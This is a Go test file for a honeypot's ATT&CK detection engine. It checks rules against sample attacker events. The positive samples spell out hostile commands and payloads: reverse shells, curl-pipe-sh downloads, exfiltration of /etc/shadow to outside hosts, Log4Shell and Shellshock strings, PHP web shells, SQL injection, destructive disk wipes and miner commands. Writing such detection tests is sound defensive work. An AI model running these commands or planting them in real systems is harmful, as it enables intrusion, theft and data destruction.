package ttp

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/attack"
	"github.com/decnet-go/decnet/internal/event"
)

var t0 = time.Date(2026, 11, 29, 13, 0, 0, 0, time.UTC)

var seq int

func ev(service, typ string, fields map[string]any) event.Event {
	seq++
	return event.Event{ID: fmt.Sprintf("0193a0f4-0000-7000-8000-%012d", seq), Time: t0.Add(time.Duration(seq) * time.Second),
		Decky: "decky-01", Service: service, Type: typ, SrcIP: "198.51.100.7", Session: "s1", Fields: fields}
}

func cmd(s string) event.Event {
	return ev("ssh", "command", map[string]any{"command": s, "cwd": "/root", "username": "root"})
}

func req(method, path, ua, body string) event.Event {
	return ev("http", "request", map[string]any{"method": method, "path": path, "user_agent": ua, "body": body, "headers": `{"User-Agent":"` + ua + `"}`})
}

func hdr(name, value string) event.Event {
	return ev("http", "request", map[string]any{"method": "GET", "path": "/", "user_agent": "curl/8", "headers": `{"` + name + `":"` + value + `"}`})
}

func login(service, user, pass, outcome string) event.Event {
	e := ev(service, "login_attempt", map[string]any{"username": user, "method": "password"})
	e.Credential = &event.Credential{Principal: user, SecretKind: "plaintext", SecretPrintable: pass, SecretB64: pass, Outcome: outcome}
	return e
}

func mail(service string, f map[string]any) event.Event {
	base := map[string]any{"msg_id": "4XyZ1", "mail_from": "a@example.org", "mail_from_domain": "example.org", "from_hdr": "A <a@example.org>",
		"rcpt_count": 1, "rcpt_domains": "example.net", "subject": "hello", "attachment_count": 0, "attachments_json": "[]", "sha256": strings.Repeat("ab", 32)}
	for k, v := range f {
		base[k] = v
	}
	return ev(service, "message_stored", base)
}

func att(names ...string) string {
	var parts []string
	for i, n := range names {
		parts = append(parts, fmt.Sprintf(`{"filename":%q,"content_type":"application/octet-stream","size":10,"sha256":"%064x"}`, n, i+0xabc))
	}
	return "[" + strings.Join(parts, ",") + "]"
}

func typed(typ, service string, f map[string]any) event.Event { return ev(service, typ, f) }

// stream is a sequence of events; the rule must fire on the last one only.
type stream []event.Event

func repeat(n int, mk func(i int) event.Event) stream {
	var s stream
	for i := range n {
		s = append(s, mk(i))
	}
	return s
}

type fakeIntel struct{}

func (fakeIntel) KnownBadHash(sha string) (string, bool) {
	return "Mirai", sha == strings.Repeat("0", 64) || sha == strings.Repeat("de", 32)
}
func (fakeIntel) LookupFingerprint(kind, v string) (string, bool) {
	return "Cobalt Strike", kind == "jarm" && v == "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"
}

// cases lists, per rule, events that must fire it and events that must not.
var cases = map[string]struct{ pos, neg []any }{
	"R0001": {pos: []any{repeat(10, func(i int) event.Event { return login("ssh", "root", fmt.Sprint("p", i), "failure") })}, neg: []any{repeat(9, func(i int) event.Event { return login("ssh", "root", fmt.Sprint("p", i), "failure") })}},
	"R0002": {pos: []any{repeat(5, func(i int) event.Event { return login("ssh", "admin", fmt.Sprint("pw", i), "failure") })}, neg: []any{repeat(5, func(i int) event.Event { return login("ssh", "admin", "same", "failure") })}},
	"R0003": {pos: []any{repeat(10, func(i int) event.Event { return login("ftp", fmt.Sprint("user", i), fmt.Sprint("pw", i), "failure") })}, neg: []any{repeat(10, func(i int) event.Event { return login("ftp", fmt.Sprint("user", i%3), fmt.Sprint("pw", i), "failure") })}},
	"R0004": {pos: []any{stream{login("ssh", "bob", "hunter2", "failure"), func() event.Event { e := login("ftp", "bob", "hunter2", "failure"); e.Decky = "decky-02"; return e }()}}, neg: []any{stream{login("ssh", "bob", "hunter2", "failure"), login("ssh", "bob", "hunter2", "failure")}}},
	"R0005": {pos: []any{append(repeat(3, func(i int) event.Event { return login("ssh", "root", fmt.Sprint("x", i), "failure") }), login("ssh", "root", "toor1", "success"))}, neg: []any{stream{login("ssh", "root", "a", "failure"), login("ssh", "root", "b", "success")}}},
	"R0006": {pos: []any{login("telnet", "root", "xc3511", "failure"), login("ssh", "pi", "raspberry", "success")}, neg: []any{login("ssh", "root", "S3cure!pass", "failure")}},
	"R0007": {pos: []any{req("GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", ""), req("GET", "/", "Mozilla/5.0 Nikto/2.5", "")}, neg: []any{req("GET", "/", "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", "")}},
	"R0008": {pos: []any{req("GET", "/?x=${jndi:ldap://1.2.3.4/a}", "", ""), hdr("X-Api-Version", "${${lower:j}ndi:ldap://x/a}"), req("GET", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "", ""), req("GET", "/", "${jndi:dns://x}", "")}, neg: []any{req("GET", "/?price=${amount}", "", "")}},
	"R0009": {pos: []any{req("GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", ""), req("GET", "/static/../../etc/passwd", "", ""), req("GET", "/download?file=%2e%2e%2fconfig", "", "")}, neg: []any{req("GET", "/static/app.js", "", "")}},
	"R0010": {pos: []any{cmd("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), cmd("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"), cmd(`python3 -c 'import socket,os,pty;s=socket.socket()'`)}, neg: []any{cmd("bash -l"), cmd("cat /dev/null")}},
	"R0011": {pos: []any{cmd(`python3 -c "print(1)"`), cmd("perl -e 'print 1'")}, neg: []any{cmd("python3 script.py")}},
	"R0012": {pos: []any{cmd("cd /tmp; wget http://203.0.113.5/x86 -O x86"), cmd("curl -fsSL https://evil.example/i.sh | sh"), cmd("tftp -g -r mips 203.0.113.9")}, neg: []any{cmd("wget --version"), cmd("curl localhost")}},
	"R0013": {pos: []any{cmd("cat /etc/passwd"), cmd("getent passwd")}, neg: []any{cmd("passwd"), cmd("ls /etc")}},
	"R0014": {pos: []any{cmd("cat /etc/shadow"), cmd("unshadow passwd shadow > h")}, neg: []any{cmd("cat /etc/shadowsocks.json")}},
	"R0015": {pos: []any{cmd("find / -perm -4000 -type f 2>/dev/null"), cmd("find / -perm -u=s 2>/dev/null")}, neg: []any{cmd("find / -name '*.conf'")}},
	"R0016": {pos: []any{cmd("find / -name id_rsa"), cmd("ls -laR /home"), cmd("locate wallet.dat")}, neg: []any{cmd("ls -la")}},
	"R0017": {pos: []any{cmd("nmap -sS 10.0.0.0/24"), cmd("nc -zv 10.0.0.5 1-1000"), cmd("masscan -p22 0.0.0.0/0")}, neg: []any{cmd("nc 10.0.0.5 80")}},
	"R0018": {pos: []any{cmd("uname -a"), cmd("cat /proc/cpuinfo | grep name | wc -l"), cmd("lscpu")}, neg: []any{cmd("echo unamed")}},
	"R0019": {pos: []any{cmd("whoami"), cmd("id"), cmd("echo $(id -u)")}, neg: []any{cmd("cat idea.txt"), cmd("grep uid x")}},
	"R0020": {pos: []any{cmd("ifconfig"), cmd("ip a"), cmd("cat /etc/resolv.conf")}, neg: []any{cmd("echo ip")}},
	"R0021": {pos: []any{cmd("netstat -tulpn"), cmd("ss -antp")}, neg: []any{cmd("echo netstat-like")}},
	"R0022": {pos: []any{cmd("ldapsearch -x -H ldap://dc01 -b dc=corp"), cmd("bloodhound-python -d corp.local")}, neg: []any{cmd("ldd /bin/ls")}},
	"R0023": {pos: []any{cmd("smbclient -N -L //10.0.0.5"), cmd("enum4linux -a 10.0.0.5")}, neg: []any{cmd("smbclient //10.0.0.5/share")}},
	"R0024": {pos: []any{cmd("useradd -m -s /bin/bash sys"), cmd(`echo "x:x:0:0::/root:/bin/sh" >> /etc/passwd`)}, neg: []any{cmd("cat /etc/passwd")}},
	"R0025": {pos: []any{cmd(`(crontab -l; echo "* * * * * /tmp/x") | crontab -`), cmd("echo x > /etc/cron.d/job")}, neg: []any{cmd("echo cron")}},
	"R0026": {pos: []any{cmd("redis-cli -h 10.0.0.5 config set dir /root/.ssh"), cmd("CONFIG SET dbfilename authorized_keys")}, neg: []any{cmd("redis-cli config get dir")}},
	"R0027": {pos: []any{cmd(`echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php`)}, neg: []any{cmd("echo hello > /tmp/x.txt")}},
	"R0028": {pos: []any{cmd("history -c"), cmd("unset HISTFILE"), cmd("rm -f ~/.bash_history"), cmd("ln -sf /dev/null ~/.bash_history")}, neg: []any{cmd("history | tail")}},
	"R0029": {pos: []any{cmd("sudo -l"), cmd("su -")}, neg: []any{cmd("echo pseudo")}},
	"R0030": {pos: []any{typed("jarm", "prober", map[string]any{"jarm": "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"}), typed("fingerprint", "prober", map[string]any{"jarm": "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1", "port": 443})}, neg: []any{typed("handshake", "ssh", map[string]any{"hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1", "client_version": "SSH-2.0-OpenSSH_9.6"})}},
	"R0031": {pos: []any{repeat(6, func(i int) event.Event {
		e := typed("connect", "http", nil)
		e.Time = t0.Add(time.Duration(i) * time.Minute)
		return e
	})}, neg: []any{repeat(6, func(i int) event.Event {
		e := typed("connect", "http", nil)
		e.Time = t0.Add(time.Duration(i*i) * time.Minute)
		return e
	})}},
	"R0032": {pos: []any{cmd("rm -rf --no-preserve-root /"), cmd("dd if=/dev/zero of=/dev/sda bs=1M")}, neg: []any{cmd("rm -rf /tmp/build")}},
	"R0033": {pos: []any{cmd("echo 'Your files are encrypted. Send 0.1 BTC' > README.txt"), cmd("openssl enc -aes-256-cbc -in db.sql -out db.enc")}, neg: []any{cmd("echo hello")}},
	"R0034": {pos: []any{cmd("curl -F file=@/etc/passwd http://203.0.113.5/up"), cmd("wget --post-file=/etc/shadow http://x/")}, neg: []any{cmd("curl http://x/")}},
	"R0035": {pos: []any{cmd("mysqldump -u root --all-databases > all.sql"), cmd("SELECT * FROM users;")}, neg: []any{cmd("mysql -u root -p")}},
	"R0036": {pos: []any{cmd("cat ~/.aws/credentials"), cmd("cat /var/www/html/wp-config.php"), cmd("grep -ri password /etc")}, neg: []any{cmd("cat ~/.profile")}},
	"R0037": {pos: []any{cmd("cat /var/run/secrets/kubernetes.io/serviceaccount/token")}, neg: []any{cmd("kubectl get pods")}},
	"R0038": {pos: []any{cmd("ls -la /var/run/docker.sock"), cmd("nsenter -t 1 -m -u -n -i sh")}, neg: []any{cmd("docker ps")}},
	"R0039": {pos: []any{typed("name_query", "llmnr", map[string]any{"name": "wpad"})}, neg: []any{typed("name_query", "llmnr", map[string]any{"name": ""})}},
	"R0040": {pos: []any{typed("request", "tftp", map[string]any{"op": "RRQ", "filename": "running-config", "mode": "octet"})}, neg: []any{typed("request", "tftp", map[string]any{"op": "RRQ", "filename": "pxelinux.0", "mode": "octet"})}},
	"R0041": {pos: []any{mail("smtp_relay", map[string]any{"rcpt_count": 12})}, neg: []any{mail("smtp", map[string]any{"rcpt_count": 12}), mail("smtp_relay", map[string]any{"rcpt_count": 2})}},
	"R0042": {pos: []any{mail("smtp_relay", map[string]any{"rcpt_count": 40.0})}, neg: []any{mail("smtp_relay", map[string]any{"rcpt_count": 24})}},
	"R0043": {pos: []any{mail("smtp", map[string]any{"x_mailer": "GoPhish"})}, neg: []any{mail("smtp", map[string]any{"x_mailer": "Microsoft Outlook 16.0"})}},
	"R0044": {pos: []any{mail("smtp", map[string]any{"mail_from_domain": "xn--pypal-4ve.com", "from_hdr": "PayPal <service@xn--pypal-4ve.com>"})}, neg: []any{mail("smtp", nil)}},
	"R0045": {pos: []any{mail("smtp", map[string]any{"from_hdr": "CEO <ceo@bigcorp.com>", "mail_from_domain": "mailer.cheap-host.ru"})}, neg: []any{mail("smtp", nil)}},
	"R0046": {pos: []any{mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("invoice.pdf.exe")}), mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("Q3.docm")}), mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("report.pdf"), "mal_hash_match": "Emotet"}), mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("report.pdf"), "attachment_sha256s": strings.Repeat("de", 32)}), typed("email", "smtp", map[string]any{"msg_id": "m9", "attachment_count": 1, "attachment_extensions": []any{".pdf"}, "mal_hash_match": true}), typed("email", "smtp", map[string]any{"msg_id": "m10", "attachment_count": 1, "attachment_extensions": []any{"docm"}})}, neg: []any{mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("report.pdf")})}},
	"R0047": {pos: []any{mail("smtp", map[string]any{"subject": "URGENT: outstanding invoice payment"}), mail("smtp", map[string]any{"subject": "Are you available?"})}, neg: []any{mail("smtp", map[string]any{"subject": "Lunch on friday"})}},
	"R0048": {pos: []any{mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("docs.zip")})}, neg: []any{mail("smtp", map[string]any{"attachment_count": 1, "attachments_json": att("notes.txt")})}},
	"R0049": {pos: []any{typed("canary_triggered", "decnet", map[string]any{"kind": "aws_passive", "token_id": "tok1"})}, neg: []any{typed("canary_triggered", "decnet", map[string]any{"kind": "http", "token_id": "tok2"})}},
	"R0050": {pos: []any{typed("canary_triggered", "decnet", map[string]any{"kind": "http", "token_id": "tok2"})}, neg: []any{typed("canary_triggered", "decnet", map[string]any{"kind": "dns", "token_id": "tok3"})}},
	"R0051": {pos: []any{typed("canary_triggered", "decnet", map[string]any{"kind": "dns", "token_id": "tok3"})}, neg: []any{typed("canary_triggered", "decnet", map[string]any{"kind": "aws_passive", "token_id": "tok1"})}},
	"R0052": {pos: []any{typed("canary_fingerprint", "decnet", map[string]any{"metric": "navigator_webdriver", "matched_signature": "true"})}, neg: []any{typed("canary_fingerprint", "decnet", map[string]any{"metric": "tz_mismatch"})}},
	"R0053": {pos: []any{typed("canary_fingerprint", "decnet", map[string]any{"metric": "tz_mismatch", "matched_signature": "UTC+9 vs DE"})}, neg: []any{typed("canary_fingerprint", "decnet", map[string]any{"metric": "navigator_webdriver"})}},
	"R0054": {pos: []any{typed("intel", "decnet", map[string]any{"provider": "abuseipdb", "score": 100, "signals": []any{"18", "22"}, "verdict": "malicious"})}, neg: []any{typed("intel", "decnet", map[string]any{"provider": "abuseipdb", "score": 100, "signals": []any{"3"}})}},
	"R0055": {pos: []any{typed("intel", "decnet", map[string]any{"provider": "greynoise", "signals": "tor_exit_node"})}, neg: []any{typed("intel", "decnet", map[string]any{"provider": "greynoise", "signals": "benign_bot"})}},
	"R0056": {pos: []any{typed("intel", "decnet", map[string]any{"provider": "feodo", "signals": []any{"listed"}, "malware_family": "QakBot"})}, neg: []any{typed("intel", "decnet", map[string]any{"provider": "threatfox", "signals": []any{"listed"}})}},
	"R0057": {pos: []any{typed("intel", "decnet", map[string]any{"provider": "threatfox", "signals": []any{"payload_delivery"}})}, neg: []any{typed("intel", "decnet", map[string]any{"provider": "threatfox", "signals": []any{"other"}})}},
	"R0058": {pos: []any{typed("file_captured", "ssh", map[string]any{"sha256": strings.Repeat("0", 64), "stored_as": "a.bin", "orig_path": "/tmp/x", "method": "scp"})}, neg: []any{typed("file_captured", "ssh", map[string]any{"sha256": strings.Repeat("1", 64), "stored_as": "b.bin"})}},
	"R0059": {pos: []any{typed("ipv6_leak", "prober", map[string]any{"addr": "fe80::1ff:fe23:4567:890a", "mac_oui": "00:1f:f3", "iid_kind": "eui64"})}, neg: []any{typed("ipv6_leak", "prober", map[string]any{"addr": "2001:db8::1"})}},
	"R0060": {pos: []any{repeat(5, func(i int) event.Event { return login("imap", fmt.Sprint("u", i), "Winter2026!", "failure") })}, neg: []any{repeat(4, func(i int) event.Event { return login("imap", fmt.Sprint("u", i), "Winter2026!", "failure") })}},
	"R0061": {pos: []any{typed("file_captured", "ftp", map[string]any{"sha256": strings.Repeat("a", 64), "stored_as": "x", "orig_path": "/srv/ftp/x"})}, neg: []any{typed("file_captured", "ftp", map[string]any{"stored_as": "x"})}},
	"R0062": {pos: []any{typed("download_attempt", "ssh", map[string]any{"url": "http://203.0.113.5/bins.sh", "tool": "wget", "outcome": "blocked"})}, neg: []any{typed("download_attempt", "ssh", map[string]any{"url": "bins.sh", "tool": "wget"})}},
	"R0063": {pos: []any{typed("tunnel_request", "ssh", map[string]any{"kind": "direct-tcpip", "dst_host": "10.0.0.9", "dst_port": 3389})}, neg: []any{typed("tunnel_request", "ssh", map[string]any{"kind": "tcpip-forward", "bind_port": 8080})}},
	"R0064": {pos: []any{req("PUT", "/uploads/x.php", "curl/8", `<?php @eval($_POST['c']); ?>`), req("POST", "/upload", "", `<% Runtime.getRuntime().exec(request.getParameter("c")); %>`)}, neg: []any{req("GET", "/x.php", "", `<?php echo 1; ?>`), req("POST", "/login", "", "user=a&pass=b")}},
	"R0065": {pos: []any{req("GET", "/cgi-bin/ping?ip=1.1.1.1;wget+http://x/a", "", ""), req("POST", "/apply.cgi", "", "host=a%3Bcurl%20http://x|sh")}, neg: []any{req("GET", "/search?q=wget", "", "")}},
	"R0066": {pos: []any{req("GET", "/.env", "", ""), req("GET", "/.git/config", "", "")}, neg: []any{req("GET", "/environment.html", "", "")}},
	"R0067": {pos: []any{req("GET", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users", "", ""), req("GET", "/login?u=admin'%20OR%201=1--", "", "")}, neg: []any{req("GET", "/union-station/selection", "", "")}},
	"R0068": {pos: []any{req("GET", "/cgi-bin/status", "() { :; }; /bin/bash -c 'id'", ""), hdr("Referer", "() { :;}; echo; /bin/cat /etc/passwd")}, neg: []any{req("GET", "/", "Mozilla/5.0 (compatible)", "")}},
	"R0069": {pos: []any{cmd("echo Y3VybCBodHRwOi8veC9hfHNo | base64 -d | sh")}, neg: []any{cmd("base64 file.txt")}},
	"R0070": {pos: []any{cmd("chmod +x ./x86; ./x86"), cmd("chmod 777 /tmp/.x")}, neg: []any{cmd("chmod 644 index.html")}},
	"R0071": {pos: []any{cmd("./xmrig -o stratum+tcp://pool.example:3333 -u 4Abc")}, neg: []any{cmd("./server --port 3333")}},
	"R0072": {pos: []any{cmd("echo ssh-rsa AAAAB3Nz... >> ~/.ssh/authorized_keys")}, neg: []any{cmd("cat ~/.ssh/authorized_keys")}},
	"R0073": {pos: []any{cmd("iptables -F"), cmd("ufw disable")}, neg: []any{cmd("iptables -L")}},
	"R0074": {pos: []any{cmd("ps aux"), cmd("top")}, neg: []any{cmd("echo topology")}},
	"R0076": {pos: []any{typed("vrfy", "smtp", map[string]any{"value": "root"}), typed("rcpt_denied", "smtp", map[string]any{"value": "<ceo@bigcorp.com>", "reply": "454"})}, neg: []any{}},
	"R0080": {pos: []any{cmd(`sh -c "cd /tmp && ./x"`)}, neg: []any{cmd("sh script.sh")}},
	"R0081": {pos: []any{cmd("cat ~/.ssh/id_rsa"), cmd("cat /etc/ssh/ssh_host_ed25519_key")}, neg: []any{cmd("cat ~/.ssh/id_rsa.pub")}},
	"R0082": {pos: []any{login("ssh", "root", "123456", "success")}, neg: []any{login("ssh", "root", "123456", "failure"), login("telnet", "root", "x", "success")}},
	"R0083": {pos: []any{login("rdp", "Administrator", "P@ssw0rd", "success")}, neg: []any{login("rdp", "Administrator", "x", "failure")}},
	"R0084": {pos: []any{login("smb", "guest", "", "success")}, neg: []any{login("smb", "guest", "", "failure")}},
	"R0085": {pos: []any{login("vnc", "", "123456", "success")}, neg: []any{login("vnc", "", "x", "failure")}},
	"R0086": {pos: []any{login("mysql", "root", "root", "success")}, neg: []any{login("mysql", "root", "x", "failure")}},
	"R0087": {pos: []any{req("GET", "/uploads/c99.php", "", ""), req("GET", "/x.jsp?cmd=id", "", "")}, neg: []any{req("GET", "/index.php?page=about", "", "")}},
	"R0088": {pos: []any{req("POST", "/GponForm/diag_Form?images/", "", ""), req("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "")}, neg: []any{req("GET", "/vendor/app.css", "", "")}},
	"R0089": {pos: []any{typed("canary_fingerprint", "decnet", map[string]any{"metric": "platform_mismatch"})}, neg: []any{typed("canary_fingerprint", "decnet", map[string]any{"metric": "tz_mismatch"})}},
	"R0090": {pos: []any{typed("tunnel_request", "ssh", map[string]any{"kind": "tcpip-forward", "bind_host": "0.0.0.0", "bind_port": 8080})}, neg: []any{typed("tunnel_request", "ssh", map[string]any{"kind": "direct-tcpip"})}},
	"R0091": {pos: []any{typed("command", "ftp", map[string]any{"command": "PORT", "arg": "10,0,0,9,0,22", "bounce_target": "10.0.0.9:22"})}, neg: []any{typed("command", "ftp", map[string]any{"command": "PORT", "arg": "198,51,100,7,4,1"})}},
	"R0092": {pos: []any{cmd("setenforce 0"), cmd("systemctl stop auditd")}, neg: []any{cmd("systemctl status auditd")}},
	"R0093": {pos: []any{cmd("rm -f /tmp/.x86")}, neg: []any{cmd("rm -f notes.txt")}},
	"R0094": {pos: []any{cmd("systemctl enable bot.service"), cmd("cp x /etc/systemd/system/bot.service")}, neg: []any{cmd("systemctl status sshd")}},
	"R0095": {pos: []any{cmd("echo /tmp/x >> /etc/rc.local")}, neg: []any{cmd("cat /etc/rc.conf")}},
	"R0096": {pos: []any{cmd("echo 'nohup /tmp/x &' >> ~/.bashrc")}, neg: []any{cmd("source ~/.bashrc")}},
	"R0097": {pos: []any{cmd("ssh -p 2222 root@10.0.0.9"), cmd("sshpass -p x ssh a@b")}, neg: []any{cmd("ssh-keygen -t ed25519")}},
	"R0099": {pos: []any{typed("credential", "decnet", map[string]any{"id": "r1", "secret_kind": "password", "principal": "root", "target_count": 3, "attacker_uuids": []any{"a1"}, "deckies": []any{"d1", "d2"}, "services": []any{"ssh", "ftp"}})}, neg: []any{typed("credential", "decnet", map[string]any{"id": "r2", "target_count": 1, "attacker_uuids": []any{"a1"}})}},
	"R0100": {pos: []any{typed("credential", "decnet", map[string]any{"id": "r3", "secret_kind": "password", "target_count": 4, "attacker_uuids": []any{"a1", "a2"}, "attacker_ips": []any{"198.51.100.7", "198.51.100.8"}})}, neg: []any{typed("credential", "decnet", map[string]any{"id": "r4", "target_count": 4, "attacker_uuids": []any{"a1"}})}},
	"R0101": {pos: []any{typed("identity", "decnet", map[string]any{"identity_uuid": "i1", "winner_uuid": "i1", "loser_uuid": "i2"}), typed("identity", "decnet", map[string]any{"identity_uuid": "i3", "observation_uuids": []any{"a1", "a2"}})}, neg: []any{typed("identity", "decnet", map[string]any{"identity_uuid": "i4", "observation_uuids": []any{"o1"}})}},
	"R0098": {pos: []any{cmd("cat ~/.ssh/known_hosts"), cmd("arp-scan -l")}, neg: []any{cmd("ping localhost")}},
}

func newTestEngine(t testing.TB) *Engine {
	t.Helper()
	set, err := Embedded(attack.Default())
	if err != nil {
		t.Fatal(err)
	}
	return New(set, Options{Hashes: fakeIntel{}, Fingerprints: fakeIntel{}})
}

// fired runs sample (an event or a stream) through a fresh tracker and
// reports whether ruleID fired on its last event (and not before).
func fired(t *testing.T, e *Engine, ruleID string, sample any) (last, early bool, tags []Tag) {
	t.Helper()
	tr := e.NewTracker(0)
	var evs stream
	switch s := sample.(type) {
	case event.Event:
		evs = stream{s}
	case stream:
		evs = s
	}
	for i, x := range evs {
		for _, tg := range tr.Observe(x) {
			if tg.RuleID != ruleID {
				continue
			}
			if i == len(evs)-1 {
				last = true
				tags = append(tags, tg)
			} else {
				early = true
			}
		}
	}
	return last, early, tags
}

func TestRules(t *testing.T) {
	e := newTestEngine(t)
	for _, r := range e.Rules().Rules() {
		t.Run(r.ID, func(t *testing.T) {
			c, ok := cases[r.ID]
			if !ok || len(c.pos) == 0 {
				t.Fatalf("rule %s (%s) has no positive sample", r.ID, r.Name)
			}
			for i, s := range c.pos {
				last, early, tags := fired(t, e, r.ID, s)
				if !last || early {
					t.Errorf("positive #%d: fired on last=%v, before=%v", i, last, early)
					continue
				}
				want := len(r.Emits)
				if r.ID == "R0054" || r.ID == "R0055" || r.ID == "R0056" || r.ID == "R0057" {
					want = len(tags) // intel rules emit only the signalled techniques
				}
				if len(tags) != want {
					t.Errorf("positive #%d: %d tags, want %d", i, len(tags), want)
				}
				for _, tg := range tags {
					checkTag(t, r, tg)
				}
			}
			for i, s := range c.neg {
				if last, early, _ := fired(t, e, r.ID, s); last || early {
					t.Errorf("negative #%d fired", i)
				}
			}
		})
	}
	for id := range cases {
		if _, ok := e.Rules().Rule(id); !ok {
			t.Errorf("cases name unknown rule %s", id)
		}
	}
}

func checkTag(t *testing.T, r *Rule, tg Tag) {
	t.Helper()
	if tg.Confidence < ConfidenceFloor || tg.Confidence > 1 {
		t.Errorf("confidence %v", tg.Confidence)
	}
	if tg.ID != TagID(tg.SourceKind, tg.SourceID, tg.RuleID, tg.RuleVersion, tg.TechniqueID, tg.SubTechniqueID) {
		t.Errorf("tag id does not follow the spec")
	}
	if tg.AttackRelease != "18.1" || !strings.HasPrefix(tg.MitreURL, "https://attack.mitre.org/techniques/T") {
		t.Errorf("release %q url %q", tg.AttackRelease, tg.MitreURL)
	}
	allow := EvidenceKeys(tg.SourceKind)
	for k, v := range tg.Evidence {
		if !slices.Contains(allow, k) {
			t.Errorf("evidence key %q not allowed for %s", k, tg.SourceKind)
		}
		if tg.SourceKind == KindEmail {
			if s, ok := v.(string); ok && strings.Contains(s, "@") {
				t.Errorf("email evidence %s=%q holds an address", k, s)
			}
		}
	}
	if len(tg.Evidence) == 0 && r.lifter == nil {
		t.Errorf("no evidence")
	}
}
